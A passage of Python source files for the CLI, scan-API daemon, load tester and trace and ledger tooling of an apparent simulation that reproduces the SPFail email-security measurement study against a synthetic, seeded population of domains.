        return str(tenant) if tenant else "public"


class _UnixHandler(_Handler):
    # setup() would setsockopt(IPPROTO_TCP, ...) — not a thing on AF_UNIX.
    disable_nagle_algorithm = False


class ScanHTTPServer(ThreadingHTTPServer):
    """TCP listener; request threads block on the service dispatcher."""

    daemon_threads = True
    allow_reuse_address = True
    handler_class = _Handler

    def __init__(self, address: Tuple[str, int], service: ScanService) -> None:
        self.service = service
        super().__init__(address, self.handler_class)


class UnixScanHTTPServer(ScanHTTPServer):
    """The same listener over a unix-domain socket path."""

    address_family = socket.AF_UNIX
    handler_class = _UnixHandler

    def server_bind(self) -> None:
        path = self.server_address
        if isinstance(path, (tuple, list)):
            path = path[0]
        if os.path.exists(path):
            os.unlink(path)
        self.socket.bind(path)
        # BaseHTTPRequestHandler expects host/port attributes to exist.
        self.server_name = path
        self.server_port = 0

    def get_request(self):
        request, _ = self.socket.accept()
        return request, ("local", 0)


def start_server(
    service: ScanService,
    *,
    host: str = "127.0.0.1",
    port: int = 0,
    socket_path: Optional[str] = None,
) -> Tuple[ScanHTTPServer, threading.Thread]:
    """Bind a listener, start serving in a thread, and start the service.

    Returns ``(server, thread)``; ``port=0`` binds an ephemeral TCP port
    (read it back from ``server.server_address``).  Stop with
    ``server.shutdown()`` then ``service.stop()``.
    """
    if socket_path:
        server: ScanHTTPServer = UnixScanHTTPServer(socket_path, service)
    else:
        try:
            server = ScanHTTPServer((host, port), service)
        except OSError as error:
            raise ServeError(f"cannot bind {host}:{port}: {error}") from error
    service.start()
    thread = threading.Thread(
        target=server.serve_forever, name="repro-serve-http", daemon=True
    )
    thread.start()
    return server, thread
