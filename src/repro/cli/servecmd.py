"""``repro serve``: host a resident world behind the scan API.

The command builds (or resumes) a world through :mod:`repro.api`, warms
it — the initial sweep always runs, plus ``--warm-rounds`` longitudinal
rounds so ``patch_status_since`` has history — then serves JSON requests
until interrupted.  With ``--loadtest N`` it instead drives a
deterministic synthetic request mix against its own live listener,
prints the latency report, optionally appends a ledger record, and
exits non-zero on any 5xx (the acceptance gate for the service).

When serving from a ``--store``, the daemon holds the run's
single-writer lock for its whole lifetime: a concurrent
``repro run --store`` against the same run directory is refused with a
clear error instead of corrupting checkpoints.
"""

from __future__ import annotations

import argparse
import datetime as _dt
import sys
import time

from ..errors import ServeError


def _parse_listen(value: str):
    host, _, port = value.rpartition(":")
    if not host or not port:
        raise ServeError(
            f"--listen wants HOST:PORT, got {value!r}"
        )
    try:
        return host, int(port)
    except ValueError as error:
        raise ServeError(f"--listen port is not a number: {value!r}") from error


def _plan_targets(handle, *, max_domains: int = 2000, max_ips: int = 200):
    """Deterministic domain/address pools for the load-test plan."""
    population = handle.simulation.population
    table = population.table
    total = len(population)
    step = max(1, total // max_domains)
    domains = [table.name_at(i) for i in range(0, total, step)]
    ips = sorted(handle.simulation.campaign.tracked_ips())[:max_ips]
    return domains, ips


def _run_loadtest(args, handle, service, server) -> int:
    from ..serve import build_plan, loadtest_record, run_loadtest
    from ..serve.client import ScanClient

    domains, ips = _plan_targets(handle)
    plan = build_plan(
        args.loadtest, domains=domains, ips=ips, seed=args.loadtest_seed
    )
    host, port = server.server_address[:2] if not args.socket else (None, None)

    def make_client() -> ScanClient:
        if args.socket:
            return ScanClient(socket_path=args.socket)
        return ScanClient(host, port)

    print(
        f"loadtest: driving {len(plan):,} requests with "
        f"{args.loadtest_threads} client(s)..."
    )
    report = run_loadtest(make_client, plan, threads=args.loadtest_threads)
    print(report.render())

    if args.json:
        from .output import write_json_payload

        write_json_payload(args.json, report.summary(), label="loadtest JSON")
    if args.ledger:
        from ..obs.ledger import append_record

        record = loadtest_record(
            report, config=handle.config, noise=args.noise
        )
        append_record(args.ledger, record)
        print(f"ledger: serve record appended to {args.ledger}")
    if report.errors_5xx or report.transport_errors:
        print(
            f"loadtest FAILED: {report.errors_5xx} 5xx, "
            f"{report.transport_errors} transport errors",
            file=sys.stderr,
        )
        return 1
    return 0


def serve_command(args: argparse.Namespace) -> int:
    from .. import api
    from ..core.ethics import EthicsControls
    from ..serve import ScanService
    from ..serve.httpd import start_server
    from ..store import StoreError

    try:
        host, port = _parse_listen(args.listen)
    except ServeError as error:
        print(f"serve failed: {error}", file=sys.stderr)
        return 2

    lock = None
    store = None
    try:
        if args.store:
            from ..store import RunStore

            store = RunStore(args.store)
            try:
                state = store.load_latest()
                # Held for the daemon's lifetime: the resident world and a
                # batch writer must never mutate the same run concurrently.
                lock = store.acquire_lock(state.config)
            except StoreError as error:
                print(f"serve failed: {error}", file=sys.stderr)
                return 2
            print(
                f"Resuming {state.run_id} "
                f"(config {state.config.content_hash()[:12]}) as the "
                f"resident world..."
            )
            overrides = {}
            if args.executor is not None:
                overrides["executor"] = args.executor
            if args.workers != 1:
                overrides["workers"] = args.workers
            handle = api.resume(state, **overrides)
        else:
            config = api.RunConfig(
                scale=args.scale,
                seed=args.seed,
                executor=args.executor,
                workers=args.workers,
                world=args.world,
            )
            print(
                f"Building the resident world "
                f"(scale={args.scale}, seed={args.seed}, {args.world})..."
            )
            handle = api.open_run(config)

        status = handle.status()
        print(
            f"  {status['domains']:,} domains / {status['addresses']:,} "
            f"addresses resident; running the initial sweep..."
        )
        warm_started = time.perf_counter()
        handle.ensure_initial()
        if args.warm_rounds:
            handle.advance_rounds(args.warm_rounds)
        print(
            f"  warm in {time.perf_counter() - warm_started:.1f}s "
            f"({handle.status()['rounds_completed']} round(s) of history)"
        )

        def tenant_limits() -> EthicsControls:
            return EthicsControls(
                max_concurrent_connections=args.tenant_connections,
                min_reconnect_wait=_dt.timedelta(
                    seconds=args.tenant_recontact_wait
                ),
            )

        service = ScanService(
            handle, queue_depth=args.queue_depth, tenant_limits=tenant_limits
        )
        try:
            server, thread = start_server(
                service, host=host, port=port, socket_path=args.socket
            )
        except ServeError as error:
            print(f"serve failed: {error}", file=sys.stderr)
            return 2
        try:
            if args.socket:
                print(f"serving on unix socket {args.socket}")
            else:
                bound_host, bound_port = server.server_address[:2]
                print(f"serving on http://{bound_host}:{bound_port}")
            print(
                "  endpoints: POST /v1/{probe_domain,check_mta,"
                "spf_census_row,patch_status_since,run_status} · "
                "GET /healthz"
            )
            if args.loadtest is not None:
                return _run_loadtest(args, handle, service, server)
            try:
                while thread.is_alive():
                    thread.join(timeout=1.0)
            except KeyboardInterrupt:
                print("\nshutting down...")
            return 0
        finally:
            server.shutdown()
            service.stop()
            handle.close()
    finally:
        if lock is not None:
            lock.release()
