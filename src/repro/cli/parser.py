"""The argument parser: every subcommand's flags in one place.

The parser is structured around the ``run`` / ``resume`` / ``serve`` /
``trace`` / ``obs`` subcommands.  The pre-subcommand invocation
(``python -m repro --scale 0.02 ...``) keeps working with a deprecation
notice: every run flag still exists at the top level with the same
defaults, seeding the shared namespace the subcommands override
selectively (the ``SUPPRESS`` pattern in :func:`_add_run_flags`).
"""

from __future__ import annotations

import argparse

from ..obs.logbridge import LEVELS
from .artifacts import ARTIFACT_NAMES


def _add_run_flags(
    parser: argparse.ArgumentParser, *, suppress: bool = False
) -> None:
    """The campaign-run flags.

    With ``suppress=True`` (the ``run`` subcommand) every flag defaults
    to ``argparse.SUPPRESS``: the top-level parser has already installed
    the real defaults on the shared namespace, and the subcommand must
    only override what the user typed after ``run``.
    """

    def add(*names, default, **kwargs):
        parser.add_argument(
            *names, default=argparse.SUPPRESS if suppress else default, **kwargs
        )

    add(
        "--scale", type=float, default=0.01,
        help="population scale relative to the paper's 441K domains (default 0.01)",
    )
    add("--seed", type=int, default=20211011, help="simulation seed")
    add(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count (N>1 selects the sharded executor; "
        "with --executor process, the worker-process/shard count)",
    )
    add(
        "--executor", choices=("serial", "sharded", "process"), default=None,
        help="probe-execution strategy (default: derived from --workers); "
        "'process' escapes the GIL by probing shard-local world replicas "
        "in worker processes; results are byte-identical across strategies "
        "for the same seed",
    )
    add(
        "--world", choices=("lazy", "eager"), default="lazy",
        help="world materialization strategy: 'lazy' builds servers on "
        "first touch (memory tracks the probed set); 'eager' pre-builds "
        "every server up front; artifacts are byte-identical either way",
    )
    add(
        "--artifact", choices=ARTIFACT_NAMES, action="append", default=None,
        help="regenerate only the named table/figure (repeatable)",
    )
    add(
        "--list", action="store_true", default=False,
        help="list available artifacts and exit",
    )
    add(
        "--report", metavar="FILE", default=None,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    add(
        "--export-csv", metavar="DIR", default=None,
        help="write machine-readable CSVs for the key series to DIR",
    )
    add(
        "--trace", metavar="FILE", default=None,
        help="write a canonically ordered virtual-time trace (JSONL) to FILE; "
        "byte-identical across executor strategies for the same seed",
    )
    add(
        "--metrics-out", metavar="FILE", default=None,
        help="write the observability metrics registry (JSON) to FILE",
    )
    add(
        "--log-level", choices=sorted(LEVELS), default=None,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    add(
        "--progress", action="store_true", default=False,
        help="render live stage progress (tasks, probes/s, ETA) to stderr; "
        "never alters trace, report, or CSV output",
    )
    add(
        "--perf", metavar="DIR", default=None,
        help="record wall-clock span timings and resource samples into DIR "
        "(a sideband: trace, report, and CSV bytes are unchanged); implies "
        "tracing; inspect with `python -m repro trace profile`",
    )
    add(
        "--ledger", metavar="FILE", default=None,
        help="append one performance-ledger record for this run to FILE "
        "(config hash, env + git commit, throughput, stage wall "
        "attribution when --perf is on); with --store a record also "
        "lands in the run directory's ledger.jsonl; inspect with "
        "`python -m repro obs history` / `obs regress`",
    )


def _add_output_flags(parser: argparse.ArgumentParser) -> None:
    """Artifact/observability outputs shared by ``run`` and ``resume``.

    ``SUPPRESS`` defaults: the top-level parser already seeded the shared
    namespace with the real defaults.
    """
    parser.add_argument(
        "--artifact", choices=ARTIFACT_NAMES, action="append",
        default=argparse.SUPPRESS,
        help="regenerate only the named table/figure (repeatable)",
    )
    parser.add_argument(
        "--report", metavar="FILE", default=argparse.SUPPRESS,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    parser.add_argument(
        "--export-csv", metavar="DIR", default=argparse.SUPPRESS,
        help="write machine-readable CSVs for the key series to DIR",
    )
    parser.add_argument(
        "--trace", metavar="FILE", default=argparse.SUPPRESS,
        help="write the canonical virtual-time trace (JSONL) to FILE; "
        "byte-identical to the uninterrupted run's trace",
    )
    parser.add_argument(
        "--metrics-out", metavar="FILE", default=argparse.SUPPRESS,
        help="write the observability metrics registry (JSON) to FILE",
    )
    parser.add_argument(
        "--log-level", choices=sorted(LEVELS), default=argparse.SUPPRESS,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    parser.add_argument(
        "--progress", action="store_true", default=argparse.SUPPRESS,
        help="render live stage progress to stderr",
    )
    parser.add_argument(
        "--perf", metavar="DIR", default=argparse.SUPPRESS,
        help="record wall-clock span timings and resource samples into DIR "
        "(sideband only; canonical artifacts unchanged)",
    )
    parser.add_argument(
        "--ledger", metavar="FILE", default=argparse.SUPPRESS,
        help="append one performance-ledger record for the resumed run to "
        "FILE (a record also lands in the run directory's ledger.jsonl)",
    )


def _add_serve_flags(parser: argparse.ArgumentParser) -> None:
    """Flags for the long-lived scan daemon (``repro serve``)."""
    world = parser.add_argument_group("resident world")
    world.add_argument(
        "--scale", type=float, default=0.01,
        help="population scale for a fresh resident world (default 0.01)",
    )
    world.add_argument("--seed", type=int, default=20211011, help="simulation seed")
    world.add_argument(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count for the resident campaign",
    )
    world.add_argument(
        "--executor", choices=("serial", "sharded", "process"), default=None,
        help="probe-execution strategy (default: derived from --workers)",
    )
    world.add_argument(
        "--world", choices=("lazy", "eager"), default="lazy",
        help="world materialization strategy (default lazy: servers build "
        "on first probe, so a big world starts serving immediately)",
    )
    world.add_argument(
        "--store", metavar="DIR", default=None,
        help="resume the latest checkpointed run from this store and hold "
        "its single-writer lock while serving (a concurrent batch "
        "`run --store` against the same run is refused)",
    )
    world.add_argument(
        "--warm-rounds", type=int, default=0, metavar="N",
        help="advance N remeasurement rounds before accepting requests, so "
        "patch_status_since has history to answer from (default 0; the "
        "initial sweep always runs)",
    )

    listen = parser.add_argument_group("listener and admission")
    listen.add_argument(
        "--listen", metavar="HOST:PORT", default="127.0.0.1:8753",
        help="TCP listen address (default 127.0.0.1:8753; port 0 binds an "
        "ephemeral port and prints it)",
    )
    listen.add_argument(
        "--socket", metavar="PATH", default=None,
        help="serve over a unix-domain socket at PATH instead of TCP",
    )
    listen.add_argument(
        "--queue-depth", type=int, default=64, metavar="N",
        help="bounded dispatch queue; a full queue answers 429 instead of "
        "building backlog (default 64)",
    )
    listen.add_argument(
        "--tenant-connections", type=int, default=250, metavar="N",
        help="per-tenant in-flight probe cap, enforced by the same "
        "EthicsControls the campaign uses (default 250)",
    )
    listen.add_argument(
        "--tenant-recontact-wait", type=float, default=90.0, metavar="SECONDS",
        help="per-tenant minimum wait before re-probing the same target "
        "(default 90, the paper's reconnect ethics floor); refusals "
        "carry Retry-After",
    )

    load = parser.add_argument_group("load testing (serve, test, exit)")
    load.add_argument(
        "--loadtest", type=int, metavar="N", default=None,
        help="instead of serving forever: drive N requests of the default "
        "read-heavy mix against the live daemon, print the latency "
        "report, and exit non-zero on any 5xx",
    )
    load.add_argument(
        "--loadtest-threads", type=int, default=8, metavar="N",
        help="concurrent load-test clients (default 8)",
    )
    load.add_argument(
        "--loadtest-seed", type=int, default=20211011, metavar="SEED",
        help="seed for the deterministic request plan (default 20211011)",
    )
    load.add_argument(
        "--ledger", metavar="FILE", default=None,
        help="append the load test's latency record (kind 'serve', "
        "request_p99_ms and friends) to FILE for `obs history` / "
        "`obs regress`",
    )
    load.add_argument(
        "--noise", type=float, default=None, metavar="FRAC",
        help="declare the machine's identical-run latency spread in the "
        "ledger record, so later comparisons gate on it",
    )
    load.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the load-test summary as JSON to FILE ('-' for "
        "stdout)",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="Run the SPFail (IMC 2022) reproduction campaign.",
    )
    # Legacy pre-subcommand interface: same flags, same defaults, plus a
    # deprecation notice at runtime.  These defaults also seed the shared
    # namespace the subcommands override selectively.
    _add_run_flags(parser)

    sub = parser.add_subparsers(
        dest="command", metavar="{run,resume,serve,trace,obs}"
    )

    run = sub.add_parser(
        "run", help="run the campaign (optionally checkpointing into a store)"
    )
    _add_run_flags(run, suppress=True)
    run.add_argument(
        "--store", metavar="DIR", default=argparse.SUPPRESS,
        help="checkpoint the run into this store directory after the initial "
        "sweep and after every completed round (resume with "
        "`python -m repro resume --store DIR`)",
    )
    run.add_argument(
        "--abort-after-round", type=int, metavar="N", default=argparse.SUPPRESS,
        help="fault injection: abort the run right after round N's checkpoint "
        "is persisted (requires --store); used by the interrupt-and-resume "
        "CI smoke job and the resume tests",
    )

    resume = sub.add_parser(
        "resume", help="continue a checkpointed campaign from its store"
    )
    resume.add_argument(
        "--store", metavar="DIR", required=True,
        help="store directory previously populated by `run --store`",
    )
    resume.add_argument(
        "--scale", type=float, dest="resume_scale", default=argparse.SUPPRESS,
        help="expected population scale; resume refuses (with the stored "
        "hashes listed) unless a stored run's config hash matches",
    )
    resume.add_argument(
        "--seed", type=int, dest="resume_seed", default=argparse.SUPPRESS,
        help="expected simulation seed (see --scale)",
    )
    resume.add_argument(
        "--workers", type=int, dest="resume_workers", metavar="N",
        default=argparse.SUPPRESS,
        help="override the stored worker count (results are identical "
        "across strategies, so this is always safe)",
    )
    resume.add_argument(
        "--executor", choices=("serial", "sharded", "process"),
        dest="resume_executor", default=argparse.SUPPRESS,
        help="override the stored probe-execution strategy (see --workers)",
    )
    _add_output_flags(resume)

    serve = sub.add_parser(
        "serve",
        help="host a resident world behind a JSON scan API "
        "(probe_domain/check_mta/spf_census_row/patch_status_since/"
        "run_status)",
    )
    _add_serve_flags(serve)

    trace = sub.add_parser(
        "trace", help="analyze or diff traces produced by --trace"
    )
    trace_sub = trace.add_subparsers(dest="trace_command", required=True)

    summary = trace_sub.add_parser(
        "summary",
        help="stage/span/critical-path summary of one trace (markdown)",
    )
    summary.add_argument("file", help="canonical JSONL trace file")
    summary.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown summary to FILE instead of stdout",
    )
    summary.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write folded-stack lines (flamegraph input) to FILE",
    )
    summary.add_argument(
        "--top", type=int, default=20, metavar="N",
        help="event names listed in the counts table (default 20)",
    )
    summary.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the machine-readable stage/span/critical-path "
        "tables as JSON to FILE ('-' for stdout; suppresses the default "
        "markdown-to-stdout unless --out is given)",
    )

    diff = trace_sub.add_parser(
        "diff",
        help="compare two traces; pinpoint the first divergent event",
    )
    diff.add_argument("left", help="baseline trace (JSONL)")
    diff.add_argument("right", help="candidate trace (JSONL)")
    diff.add_argument(
        "--context", type=int, default=3, metavar="N",
        help="shared events shown before the divergence (default 3)",
    )

    profile = trace_sub.add_parser(
        "profile",
        help="join a trace with its --perf sideband: wall-vs-virtual "
        "attribution, hottest spans, cache efficiency, wall flamegraphs",
    )
    profile.add_argument("file", help="canonical JSONL trace file")
    profile.add_argument(
        "--perf", metavar="DIR", required=True,
        help="perf sideband directory written by `run --perf DIR`",
    )
    profile.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown profile to FILE instead of stdout",
    )
    profile.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write wall-clock folded stacks (flamegraph input) to FILE",
    )
    profile.add_argument(
        "--top", type=int, default=15, metavar="N",
        help="span types listed in the hottest-spans table (default 15)",
    )
    profile.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the machine-readable wall-vs-virtual attribution "
        "as JSON to FILE ('-' for stdout; suppresses the default "
        "markdown-to-stdout unless --out is given); the 'stages' rows "
        "are exactly what a profiled run's ledger record embeds",
    )

    obs = sub.add_parser(
        "obs", help="cross-run performance ledger: history and regression gate"
    )
    obs_sub = obs.add_subparsers(dest="obs_command", required=True)

    history = obs_sub.add_parser(
        "history",
        help="trend tables over a ledger (per metric, exact percentiles)",
    )
    history.add_argument(
        "ledger",
        help="ledger JSONL file, a run directory holding ledger.jsonl, or "
        "a single-record .json file",
    )
    history.add_argument(
        "--metric", action="append", metavar="NAME", default=None,
        help="metric column(s) to trend (repeatable; default "
        "probes_per_second and wall_seconds)",
    )
    history.add_argument(
        "--config-hash", metavar="PREFIX", default=None,
        help="only records whose RunConfig content hash starts with PREFIX",
    )
    history.add_argument(
        "--kind", action="append", metavar="KIND", default=None,
        help="only records of this kind (run/resume/record/bench/serve; "
        "repeatable)",
    )
    history.add_argument(
        "--last", type=int, metavar="N", default=None,
        help="only the N most recent matching records",
    )
    history.add_argument(
        "--json", metavar="FILE", default=None,
        help="write the trend data as JSON to FILE ('-' for stdout) "
        "instead of markdown",
    )

    regress = obs_sub.add_parser(
        "regress",
        help="compare two ledger slices; exit 1 only on a CONFIRMED "
        "(noise-cleared) regression",
    )
    regress.add_argument(
        "baseline",
        help="baseline slice: ledger JSONL, run dir, or single-record .json "
        "(e.g. a committed benchmarks/BASELINE.json)",
    )
    regress.add_argument("candidate", help="candidate slice (same spellings)")
    regress.add_argument(
        "--metric", default="probes_per_second", metavar="NAME",
        help="metric to compare (default probes_per_second)",
    )
    regress.add_argument(
        "--threshold", type=float, default=0.15, metavar="FRAC",
        help="regression budget as a fraction (default 0.15 = 15%%)",
    )
    regress.add_argument(
        "--noise", type=float, default=0.0, metavar="FRAC",
        help="noise-gate floor: the machine's known identical-run wall "
        "spread; folded in with any noise the records themselves declare "
        "and the measured baseline spread (default 0)",
    )
    regress.add_argument(
        "--config-hash", metavar="PREFIX", default=None,
        help="filter both slices to records whose config hash starts "
        "with PREFIX",
    )
    regress.add_argument(
        "--last", type=int, metavar="N", default=None,
        help="use only the N most recent matching records of each slice",
    )
    regress.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the full comparison verdict as JSON to FILE "
        "('-' for stdout)",
    )

    record = obs_sub.add_parser(
        "record",
        help="append a ledger record for an existing run directory "
        "retroactively",
    )
    record.add_argument(
        "run_dir",
        help="a RunStore run directory (holds config.json / manifest.json)",
    )
    record.add_argument(
        "--ledger", metavar="FILE", default=None,
        help="append to FILE instead of <run_dir>/ledger.jsonl",
    )
    record.add_argument(
        "--metrics", metavar="FILE", default=None,
        help="join executor wall/throughput totals from a --metrics-out "
        "JSON file of that run",
    )
    record.add_argument(
        "--trace", metavar="FILE", default=None,
        help="canonical trace of that run (with --perf: join per-stage "
        "wall attribution)",
    )
    record.add_argument(
        "--perf", metavar="DIR", default=None,
        help="perf sideband directory of that run (requires --trace)",
    )
    record.add_argument(
        "--noise", type=float, default=None, metavar="FRAC",
        help="declare the machine's measured identical-run wall spread in "
        "the record, so later comparisons gate on it",
    )
    return parser
