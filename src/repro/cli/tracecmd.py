"""``repro trace``: analyze, profile, and diff captured traces."""

from __future__ import annotations

import argparse
import sys

from .output import write_json_payload


def trace_summary(args: argparse.Namespace) -> int:
    from ..obs.analyze import TraceAnalysis

    analysis_ = TraceAnalysis.from_file(args.file)
    if args.out or not args.json:
        text = analysis_.render_markdown(top_events=args.top)
        if args.out:
            with open(args.out, "w") as handle:
                handle.write(text)
            print(f"summary written to {args.out}")
        else:
            print(text)
    if args.json:
        write_json_payload(
            args.json, analysis_.to_dict(top_events=args.top), label="summary JSON"
        )
    if args.folded:
        folded = analysis_.folded_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded stacks written to {args.folded}", file=sys.stderr)
    return 0


def trace_profile(args: argparse.Namespace) -> int:
    from ..obs.perf import PerfProfile

    profile = PerfProfile.load(args.file, args.perf)
    if args.out or not args.json:
        text = profile.render_markdown(top_spans=args.top)
        if args.out:
            with open(args.out, "w") as handle:
                handle.write(text)
            print(f"profile written to {args.out}")
        else:
            print(text)
    if args.json:
        write_json_payload(
            args.json, profile.to_dict(top_spans=args.top), label="profile JSON"
        )
    if args.folded:
        folded = profile.folded_wall_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded wall stacks written to {args.folded}", file=sys.stderr)
    return 0


def trace_diff(args: argparse.Namespace) -> int:
    from ..obs.diff import diff_files
    from ..obs.records import load_jsonl

    divergence = diff_files(args.left, args.right, context=args.context)
    if divergence is None:
        count = len(load_jsonl(args.left))
        print(f"traces identical ({count:,} events)")
        return 0
    print(divergence.render(args.left, args.right))
    return 1
