"""Tiny shared output helpers for the CLI subcommands."""

from __future__ import annotations

import json
import sys


def write_json_payload(dest: str, payload, *, label: str) -> None:
    """Write a JSON document to a file, or to stdout when dest is ``-``."""
    text = json.dumps(payload, indent=2, sort_keys=True)
    if dest == "-":
        print(text)
        return
    with open(dest, "w") as handle:
        handle.write(text + "\n")
    print(f"{label} written to {dest}", file=sys.stderr)
