"""``repro obs``: the cross-run performance ledger subcommands."""

from __future__ import annotations

import argparse
import sys

from .output import write_json_payload


def obs_history(args: argparse.Namespace) -> int:
    from ..obs.ledger import (
        DEFAULT_HISTORY_METRICS,
        LedgerError,
        filter_records,
        history_dict,
        load_slice,
        render_history,
    )

    try:
        records = filter_records(
            load_slice(args.ledger),
            config_hash=args.config_hash,
            kinds=args.kind,
            last=args.last,
        )
    except LedgerError as error:
        print(f"obs history failed: {error}", file=sys.stderr)
        return 2
    metrics = args.metric or list(DEFAULT_HISTORY_METRICS)
    if args.json:
        write_json_payload(
            args.json, history_dict(records, metrics), label="history JSON"
        )
    else:
        print(render_history(records, metrics))
    return 0


def obs_regress(args: argparse.Namespace) -> int:
    from ..obs.ledger import (
        LedgerError,
        compare_records,
        filter_records,
        load_slice,
    )

    try:
        baseline = filter_records(
            load_slice(args.baseline), config_hash=args.config_hash, last=args.last
        )
        candidate = filter_records(
            load_slice(args.candidate), config_hash=args.config_hash, last=args.last
        )
        result = compare_records(
            baseline,
            candidate,
            metric=args.metric,
            threshold=args.threshold,
            noise_floor=args.noise,
        )
    except LedgerError as error:
        print(f"obs regress failed: {error}", file=sys.stderr)
        return 2
    if args.json:
        write_json_payload(args.json, result.to_dict(), label="verdict JSON")
    print(result.render())
    return 1 if result.regressed else 0


def obs_record(args: argparse.Namespace) -> int:
    from ..obs.ledger import LedgerError, retro_record

    if args.perf and not args.trace:
        print("obs record: --perf requires --trace", file=sys.stderr)
        return 2
    try:
        record, path = retro_record(
            args.run_dir,
            ledger_path=args.ledger,
            metrics_path=args.metrics,
            trace_path=args.trace,
            perf_dir=args.perf,
            noise=args.noise,
        )
    except LedgerError as error:
        print(f"obs record failed: {error}", file=sys.stderr)
        return 2
    print(
        f"ledger: record for config {record['config_hash'][:12]} "
        f"appended to {path}"
    )
    return 0
