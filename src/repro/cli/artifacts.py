"""Artifact generation and post-campaign outputs for the CLI.

The artifact registry maps every paper table/figure name to a renderer
over a completed :class:`repro.simulation.Simulation`; ``emit_outputs``
is everything that happens after a campaign finishes — reports, CSVs,
traces, metrics, and the throughput summary line.
"""

from __future__ import annotations

import argparse
import json
from typing import Callable, Dict

from .. import analysis
from ..simulation import Simulation

ARTIFACT_NAMES = (
    "table1", "table2", "table3", "table4", "table5", "table6", "table7",
    "figure2", "figure3", "figure4", "figure5", "figure6", "figure7",
    "figure8", "notification",
)


def artifact_registry(sim: Simulation) -> Dict[str, Callable[[], str]]:
    result = sim.run()
    return {
        "table1": lambda: analysis.render_table1(analysis.build_table1(sim.population)),
        "table2": lambda: analysis.render_table2(analysis.build_table2(sim.population)),
        "table3": lambda: analysis.render_table3(
            analysis.build_table3(sim.population, result.initial)
        ),
        "table4": lambda: analysis.render_table4(
            analysis.build_table4(sim.population, result.initial)
        ),
        "table5": lambda: analysis.render_table5(analysis.build_table5(sim)),
        "table6": lambda: analysis.render_table6(analysis.build_table6()),
        "table7": lambda: analysis.render_table7(analysis.build_table7(result.initial)),
        "figure2": lambda: analysis.render_figure2(analysis.build_figure2(sim)),
        "figure3": lambda: analysis.render_figure3(analysis.build_figure3(sim)),
        "figure4": lambda: analysis.render_figure4(analysis.build_figure4(sim)),
        "figure5": lambda: analysis.render_figure5(analysis.build_figure5(sim)),
        "figure6": lambda: analysis.render_figure6(analysis.build_figure6(sim)),
        "figure7": lambda: analysis.render_figure7(analysis.build_figure7(sim)),
        "figure8": lambda: analysis.render_figure8(analysis.build_figure8(sim)),
        "notification": lambda: analysis.render_notification_funnel(
            analysis.build_notification_funnel(sim)
        ),
    }


def write_trace(sim: Simulation, path: str) -> int:
    """Write the canonical JSONL trace; returns the event count."""
    assert sim.observation is not None
    return sim.observation.tracer.write_jsonl(path)


def write_metrics(sim: Simulation, path: str) -> None:
    assert sim.observation is not None and sim.config is not None
    payload = {
        "scale": sim.config.resolved_population().scale,
        "seed": sim.config.seed,
        "workers": sim.config.workers,
        "executor": type(sim.campaign.executor).__name__,
        "metrics": sim.observation.metrics.to_dict(),
        "histogram_percentiles": sim.observation.metrics.percentiles(),
        "executor_stages": sim.campaign.executor.metrics.to_dict(),
    }
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def emit_outputs(sim: Simulation, args: argparse.Namespace) -> int:
    """Everything after a (completed) campaign: artifacts + observability."""
    if args.report:
        from ..analysis.report import generate_report

        text = generate_report(sim)
        with open(args.report, "w") as handle:
            handle.write(text)
        print(f"report written to {args.report}")
    if args.export_csv:
        from ..analysis.export import export_all

        written = export_all(sim, args.export_csv)
        print(f"{len(written)} CSV files written to {args.export_csv}")

    if not (args.report or args.export_csv) or args.artifact:
        registry = artifact_registry(sim)
        names = args.artifact or list(ARTIFACT_NAMES)
        for name in names:
            print()
            print(registry[name]())

    if args.trace:
        count = write_trace(sim, args.trace)
        print(f"trace: {count:,} events written to {args.trace}")
    if args.metrics_out:
        write_metrics(sim, args.metrics_out)
        print(f"metrics written to {args.metrics_out}")

    total = sim.campaign.executor.metrics.total()
    print()
    print(
        f"probe execution: {total.probes_attempted:,} probes "
        f"({total.retried} retried, {total.refused} refused) in "
        f"{total.wall_seconds:.2f}s wall / {total.sim_seconds:,.0f}s simulated "
        f"({total.probes_per_second:,.0f} probes/s)"
    )
    return 0
