"""``repro run`` / ``repro resume``: the batch campaign commands.

Both commands go through the public facade in :mod:`repro.api` —
``api.open_run`` / ``api.resume`` — rather than constructing
:class:`Simulation` directly, so the CLI exercises exactly the surface
embedded callers and the serve daemon use.
"""

from __future__ import annotations

import argparse
import sys
from typing import Optional

from ..obs import Observation, attach_trace_handler, configure_logging
from .artifacts import ARTIFACT_NAMES, emit_outputs


def make_observation(
    args: argparse.Namespace, *, trace: bool
) -> Optional[Observation]:
    perf_dir = getattr(args, "perf", None)
    observation = None
    if trace or args.metrics_out or args.log_level or perf_dir:
        observation = Observation(trace=trace)
    if perf_dir:
        from ..obs.perf import PerfRecorder

        # Span wall-timing rides the tracer's sink hooks, so callers
        # force trace=True whenever --perf is given.
        observation.attach_perf(PerfRecorder(perf_dir))
    if args.log_level:
        configure_logging(args.log_level)
        if observation is not None and observation.tracer.enabled:
            attach_trace_handler(observation.tracer)
    return observation


def finalize_perf(observation: Optional[Observation]) -> None:
    """Merge perf part streams and print a one-line summary."""
    if observation is None or observation.perf is None:
        return
    summary = observation.perf.finalize()
    print(
        f"perf: {summary['records']:,} span records, "
        f"{summary['samples']:,} samples from {len(summary['roles'])} "
        f"role(s) merged into {summary['directory']}"
    )


def append_ledger(
    sim,
    args: argparse.Namespace,
    *,
    store,
    wall_seconds: float,
    kind: str,
) -> None:
    """Append one performance-ledger record for a completed run.

    Targets: the RunStore run directory's ``ledger.jsonl`` (when the run
